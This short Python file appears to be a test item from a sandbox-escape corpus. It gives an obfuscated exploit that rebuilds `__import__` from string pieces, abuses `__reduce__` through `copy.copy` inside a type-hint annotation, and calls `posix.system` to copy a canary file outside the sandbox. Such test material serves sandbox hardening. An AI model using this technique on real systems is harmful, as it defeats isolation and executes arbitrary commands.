# class: pickle_like
# technique: copy.copy on a run-time class whose __reduce__ returns (posix.system, (cmd,)): copy is imported inside a get_type_hints annotation
# goal: exec
import typing

import numpy as np
import pandas as pd


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
u = "_" * 2
importer = u + "import" + u
results = []


def gadget_reduce(self):
    return (eval(importer)("posix").system, ("cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-copy",))


Gadget = make("Gadget", (), {u + "reduce" + u: gadget_reduce})


def cell(x: "[results.append(eval(importer)('copy').copy(Gadget())), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"rc": results})
